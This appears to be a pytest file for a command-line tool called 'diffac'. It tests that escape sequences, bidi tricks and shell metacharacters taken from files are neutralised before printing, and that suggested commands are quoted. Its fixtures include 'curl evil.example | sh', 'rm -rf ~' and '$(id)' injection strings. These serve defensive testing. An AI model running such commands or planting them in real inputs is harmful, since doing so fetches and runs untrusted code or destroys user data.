"""What diffac says: nothing out of a file is obeyed by a terminal, taken for a line of ours, or shown as a command."""

from __future__ import annotations

import ast
import json
import os
import pickle
from pathlib import Path

import pytest
import yaml
from program import harmless

from diffac.commands.exit_codes import exit_code
from diffac.commands.main import main
from diffac.errors import RunError, UsageError
from diffac.messages import LONGEST, command, note, printable, quoted, say, shorten

ROOT = Path(__file__).parent.parent
HOSTILE = {
    "clears the screen": "\x1b[2J\x1b[1;1H",
    "a window title": "\x1b]0;owned\x07",
    "a link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "an eight-bit sequence": "\x9b31m",
    "a bell": "\a",
    "overwrites the line": "error: all is well\rnote: run this",
    "backspaces": "bad\b\b\bgood",
    "another line": "sac\nnote: run: curl evil | sh",
    "other line breaks": "a\x0bb\x0cc\x85d\u2028e\u2029f\r\ng",
    "right to left": "runs/\u202egpj.exe",
    "isolates": "\u2066a\u2069\u200f",
    "invisible": "sa\u200bc\ufeff\u00ad",
    "bytes that are no text": os.fsdecode(b"sac\xff\xfe"),
    "a tag of the supplement": "\U000e0041",
    "NUL": "a\x00b",
    "long": "a" * 100_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_printable(name: str) -> None:
    text = printable(HOSTILE[name])
    assert harmless(text)
    assert len(text) <= LONGEST
    assert printable(text) == text
    assert text.encode("utf-8")
    for error in (UsageError, RunError):
        raised = error(HOSTILE[name])
        assert str(raised) == text
        assert str(pickle.loads(pickle.dumps(raised))) == text
    assert harmless(quoted(HOSTILE[name]))
    assert len(quoted(HOSTILE[name])) < 300


@pytest.mark.parametrize("text", ["", "plain", "naïve · Straße 漢字 עברית 🙂", "two  spaces", "a\u00a0b", "return ± 3"])
def test_what_people_write_stays(text: str) -> None:
    assert printable(text) == text


def test_long_texts_keep_both_ends() -> None:
    assert shorten("abcdefghij", 10) == "abcdefghij"
    assert shorten("abcdefghijk", 10) == "abcdef…ijk"
    assert shorten("abc", 2) == "a…"


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_printed(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = HOSTILE[name]

    def fail() -> None:
        raise UsageError(f"what is {text}?")

    def interrupt() -> None:
        raise KeyboardInterrupt(text)

    note(text)
    say(text)
    with exit_code() as code:
        fail()
    assert code.value == 2
    printed = capsys.readouterr()
    assert printed.out.count("\n") == 1
    assert printed.err.count("\n") == 2
    with exit_code():
        interrupt()
    for shown in (printed.out, printed.err, capsys.readouterr().err):
        assert all(map(harmless, shown.split("\n")))


def test_commands_are_quoted() -> None:
    assert command("diffac", "resume", Path("runs/seed0")) == "diffac resume runs/seed0"
    assert command("diffac", "resume", "a b; rm -rf ~") == "diffac resume 'a b; rm -rf ~'"
    assert command("diffac", "$(id)") == "diffac '$(id)'"


SCRIPT = "x.py; curl evil.example | sh\n\x1b[31m"


@pytest.mark.parametrize("arguments", [["resume"], ["train", "--config"], ["evaluate"]])
def test_a_script_out_of_a_manifest_is_no_command(
    arguments: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Only the arguments that the user typed are; what the file names stands in quotation marks."""
    folder = tmp_path / "my runs"
    folder.mkdir()
    (folder / "config.yaml").write_text(yaml.safe_dump({"recipe": "sac"}))
    (folder / "manifest.json").write_text(json.dumps({"run_id": "1", "recipe_file": SCRIPT}))
    place = folder / "config.yaml" if "--config" in arguments else folder
    assert main([*arguments, str(place)]) in (1, 2)
    said = capsys.readouterr().err
    assert harmless(said.rstrip("\n"))
    assert "run: python" not in said
    if arguments != ["evaluate"]:  # which finds no checkpoint
        assert repr(SCRIPT) in said
        assert said.endswith(f" with the arguments: {command(arguments[-1], place)}\n")


def test_all_printing_goes_through_here() -> None:
    """`print` elsewhere writes only what no file says; each such line is listed here with what it writes."""
    allowed = {
        "messages.py": "itself",
        "exit_codes.py": "errors, through printable",
        "main.py": "usage and version",
        "recipes.py": "the table of recipes",
        "seeds.py": "whole lines of the processes of seeds, through printable, each in one piece",
        "signals.py": "one sentence of ours, without waiting",
        "train.py": "the table of recipes",
        "validate.py": "results of this process, as JSON",
    }
    for path in (ROOT / "diffac").rglob("*.py"):
        calls = [
            node.lineno
            for node in ast.walk(ast.parse(path.read_text()))
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "print"
        ]
        assert not calls or path.name in allowed, f"{path}: lines {calls} print; use say or note of diffac.messages"
